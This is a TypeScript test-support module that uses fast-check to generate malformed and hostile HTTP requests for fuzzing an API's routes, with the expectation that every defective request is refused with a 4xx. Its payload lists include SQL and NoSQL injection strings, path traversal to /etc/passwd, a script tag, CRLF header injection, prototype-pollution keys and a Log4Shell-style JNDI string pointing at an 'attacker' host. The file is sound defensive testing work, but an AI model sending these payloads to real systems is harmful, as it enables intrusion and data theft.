import fc from 'fast-check';
import { DEFAULT_MAX_BODY_BYTES } from '#shared/http/route.ts';
import type { Route } from '#shared/http/route.ts';
import type { CallOptions } from '#test/support/api.ts';

/**
 * Generators of malformed and hostile requests, built from a route's valid sample request.
 *
 * Each request carries one *defect* that no correct implementation may accept (unknown field,
 * duplicate key, too deep, too large, not JSON, wrong type, bad government code, unknown query
 * parameter), so that it must be refused with a 4xx and must not change state; and on top of it
 * zero to three *hostile values* that may or may not be valid on their own (injection strings,
 * unicode edge cases, negative or huge numbers, hostile headers), so that every layer that parses
 * them is exercised. Reads may also be sent with hostile values only (defect 'none'): they cannot
 * change state, and the handler behind them must still never fail.
 */
export interface HostileRequest {
  readonly defect: string;
  readonly options: CallOptions;
}

const injections = [
  "' OR '1'='1' --",
  '1; DROP TABLE hojo; --',
  '" OR ""="',
  '{"$ne":null}',
  '{"$gt":""}',
  '$where',
  'sleep(10)',
  '../../../etc/passwd',
  '..%2F..%2F..%2Fetc%2Fpasswd',
  '..\\..\\windows\\win.ini',
  '/governments/26000',
  '<script>alert(1)</script>',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a Log4Shell-style injection, literally
  '${jndi:ldap://attacker/x}',
  '{{7*7}}',
  '%s%s%s%n',
  '__proto__',
  'constructor',
  'prototype',
  'pk = :pk OR attribute_exists(pk)',
  'AUDIT#26000#2026-01',
  'BUDGET#26000#2026',
];

const unicodeEdges = [
  '\u0000',
  'a\u0000b',
  '\u202Eevil\u202C',
  '\u200F\u05E9\u05DC\u05D5\u05DD',
  '\u200B\u200C\u200D\uFEFF',
  'A\u0301\u0301\u0301\u0301',
  '😀👨‍👩‍👧‍👦',
  '\uD800',
  '\uDFFF',
  'x\uDBFFy',
  '１１０００',
  '٢٠٢٦',
  '\r\nSet-Cookie: admin=1',
  '\t\v\f',
  '',
  '   ',
  '서울특별시\u0000',
];

const hostileString: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom(...injections),
  fc.constantFrom(...unicodeEdges),
  fc.string({ unit: 'binary', maxLength: 40 }),
  fc.string({ unit: 'grapheme', maxLength: 40 }),
  fc.constantFrom('-1', '0', '1e309', 'NaN', 'Infinity', '0x10', '2026.0', ' 2026', 'null', 'true', '[]', '{}'),
  fc.nat({ max: 20_000 }).map((n) => 'A'.repeat(n)),
);

const hostileNumber: fc.Arbitrary<number> = fc.oneof(
  fc.constantFrom(-1, -0, 0, 0.5, -0.5, 1.0000001, 2 ** 53, 2 ** 53 + 2, -(2 ** 63), 1e21, 1e308, Number.MAX_VALUE, 5e-324, -1e15),
  fc.integer(),
  fc.double({ noNaN: true, noDefaultInfinity: true }),
);

const hostileStructure: fc.Arbitrary<unknown> = fc.constantFrom<unknown>(
  { $ne: null },
  { $gt: '' },
  { $where: 'this.amount > 0' },
  { constructor: { prototype: { isAdmin: true } } },
  [],
  [null],
  {},
  null,
  true,
  [[[[[[[[1]]]]]]]],
);

const hostileValue: fc.Arbitrary<unknown> = fc.oneof(hostileString, hostileNumber, hostileStructure);

/** Hostile key names for unknown fields: never part of any schema. */
const unknownKey: fc.Arbitrary<string> = fc.oneof(
  fc.constantFrom('constructor', 'prototype', '$ne', '$where', 'isAdmin', 'gov', 'pk', 'sk', '../x', '\u0000', '\u202E', '', 'amount '),
  fc.string({ unit: 'grapheme', minLength: 1, maxLength: 20 }).map((key) => `x-${key}`),
);

/** Raw texts that are not JSON at all. */
const notJson = fc.constantFrom(
  '{"a":',
  "{'a':1}",
  '{"a":1,}',
  '{a:1}',
  'NaN',
  '\uFEFF{}',
  '{"a":1}{"b":2}',
  '<?xml version="1.0"?><a/>',
  '{"a":"\\x41"}',
  '{"a":01}',
  '\u0000',
  '[1,2',
);

/** Government codes that are not in the registry or not codes at all. */
const badGov = fc.oneof(
  fc.constantFrom(
    '99999',
    '00000',
    '1100',
    '110000',
    '11000 ',
    ' 11000',
    '11000\u0000',
    '../26000',
    '11000/../26000',
    '%31%31%30%30%30',
    '１１０００',
    "11000' OR '1'='1",
    '*',
    '',
  ),
  fc
    .string({ unit: 'binary', maxLength: 12 })
    .map((s) => s.toWellFormed())
    .filter((s) => !/^\d{5}$/.test(s)),
);

/** A value of a type other than the sample's, so that the field's schema must refuse it. */
function wrongTypeFor(sample: unknown): fc.Arbitrary<unknown> {
  if (typeof sample === 'string')
    return fc.oneof(
      hostileNumber,
      hostileStructure.filter((v) => v !== null),
      fc.boolean(),
    );
  if (typeof sample === 'number')
    return fc.oneof(
      hostileString,
      hostileStructure.filter((v) => v !== null),
      fc.boolean(),
    );
  if (typeof sample === 'boolean') return fc.oneof(hostileString, hostileNumber);
  if (Array.isArray(sample)) return fc.oneof(hostileString, hostileNumber, fc.constant({ $ne: null }));
  return fc.oneof(hostileString, hostileNumber, fc.constant([]));
}

type Body = Record<string, unknown>;
const asObject = (body: unknown): Body => (typeof body === 'object' && body !== null && !Array.isArray(body) ? (body as Body) : {});

const hasBody = (route: Route): boolean => route.body !== undefined;
const isRead = (route: Route): boolean => route.method === 'GET';

let oversized: string | undefined;
function oversizedBody(route: Route): string {
  const limit = route.maxBodyBytes ?? DEFAULT_MAX_BODY_BYTES;
  oversized =
    oversized && oversized.length > limit ? oversized : JSON.stringify({ filler: 'x'.repeat(Math.max(limit, DEFAULT_MAX_BODY_BYTES) + 1) });
  return oversized;
}

/**
 * The defects that make a request of this route invalid, whatever else it carries. `sample` is the
 * request with hostile values already in; `typed` is the valid sample, whose field types the
 * wrong-type defect departs from.
 */
function defects(route: Route, sample: CallOptions, typed: CallOptions): fc.Arbitrary<HostileRequest>[] {
  const body = asObject(sample.body);
  const keys = Object.keys(body);
  const typedBody = asObject(typed.body);
  const typedKeys = Object.keys(typedBody);
  const list: fc.Arbitrary<HostileRequest>[] = [
    unknownKey.chain((key) =>
      hostileValue.map((value) => ({
        defect: hasBody(route) ? 'unknown-field' : 'unexpected-body',
        options: { ...sample, body: { ...body, [key]: value } },
      })),
    ),
    fc.constantFrom(...(keys.length > 0 ? keys : ['a'])).chain((key) =>
      hostileValue.map((value) => {
        const text = JSON.stringify(keys.length > 0 ? body : { a: 1 });
        const duplicate = `${JSON.stringify(key)}:${JSON.stringify(value) ?? 'null'}`;
        return { defect: 'duplicate-key', options: { ...sample, body: undefined, rawBody: `${text.slice(0, -1)},${duplicate}}` } };
      }),
    ),
    fc.integer({ min: 65, max: 5_000 }).map((depth) => ({
      defect: 'too-deep',
      options: { ...sample, body: undefined, rawBody: `{"nested":${'['.repeat(depth)}${']'.repeat(depth)}}` },
    })),
    notJson.map((rawBody) => ({ defect: 'not-json', options: { ...sample, body: undefined, rawBody } })),
    fc.constantFrom<unknown>([], [body], 'text', 42, null, true).map((wrong) => ({
      defect: hasBody(route) ? 'body-not-object' : 'unexpected-body',
      options: { ...sample, body: undefined, rawBody: JSON.stringify(wrong) },
    })),
    fc.constant(null).map(() => ({ defect: 'oversized', options: { ...sample, body: undefined, rawBody: oversizedBody(route) } })),
    unknownKey.chain((key) =>
      hostileString.map((value) => ({ defect: 'unknown-query', options: { ...sample, query: { ...sample.query, [`q-${key}`]: value } } })),
    ),
  ];
  if (typedKeys.length > 0) {
    list.push(
      fc
        .constantFrom(...typedKeys)
        .chain((key) =>
          wrongTypeFor(typedBody[key]).map((value) => ({ defect: 'wrong-type', options: { ...sample, body: { ...body, [key]: value } } })),
        ),
    );
  }
  if (route.path.includes('{gov}')) {
    list.push(badGov.map((gov) => ({ defect: 'bad-gov', options: { ...sample, params: { ...sample.params, gov } } })));
  }
  return list;
}

/** Hostile values that may be valid on their own: in body fields, query values, path parameters, headers. */
function hostileTouches(sample: CallOptions): fc.Arbitrary<CallOptions> {
  const touches: fc.Arbitrary<(o: CallOptions) => CallOptions>[] = [
    fc
      .record({
        name: fc.constantFrom('Idempotency-Key', 'X-Forwarded-For', 'Content-Type', 'Authorization', 'X-Amzn-Trace-Id'),
        value: hostileString,
      })
      .map(({ name, value }) => (o: CallOptions) => ({ ...o, headers: { ...o.headers, [name]: value } })),
  ];
  const bodyKeys = Object.keys(asObject(sample.body));
  if (bodyKeys.length > 0) {
    touches.push(
      fc.record({ key: fc.constantFrom(...bodyKeys), value: hostileValue }).map(({ key, value }) => (o: CallOptions) => ({
        ...o,
        body: { ...asObject(o.body), [key]: value },
      })),
    );
  }
  const queryKeys = Object.keys(sample.query ?? {});
  if (queryKeys.length > 0) {
    touches.push(
      fc.record({ key: fc.constantFrom(...queryKeys), value: hostileString }).map(({ key, value }) => (o: CallOptions) => ({
        ...o,
        query: { ...o.query, [key]: value },
      })),
    );
  }
  const paramKeys = Object.keys(sample.params ?? {}).filter((key) => key !== 'gov');
  if (paramKeys.length > 0) {
    touches.push(
      // A URL cannot carry an unpaired surrogate: API Gateway would hand over U+FFFD.
      fc
        .record({ key: fc.constantFrom(...paramKeys), value: hostileString.map((v) => v.toWellFormed()) })
        .map(({ key, value }) => (o: CallOptions) => ({ ...o, params: { ...o.params, [key]: value } })),
    );
  }
  return fc.array(fc.oneof(...touches), { maxLength: 3 }).map((changes) => changes.reduce((o, change) => change(o), sample));
}

/** Hostile values first, then the defect on top, so that no hostile value can repair the defect. */
export function hostileRequest(route: Route, sample: CallOptions): fc.Arbitrary<HostileRequest> {
  return hostileTouches(sample).chain((touched) => {
    const withDefect = fc.oneof(...defects(route, touched, sample));
    if (!isRead(route)) return withDefect;
    return fc.oneof({ arbitrary: withDefect, weight: 3 }, { arbitrary: fc.constant({ defect: 'none', options: touched }), weight: 1 });
  });
}
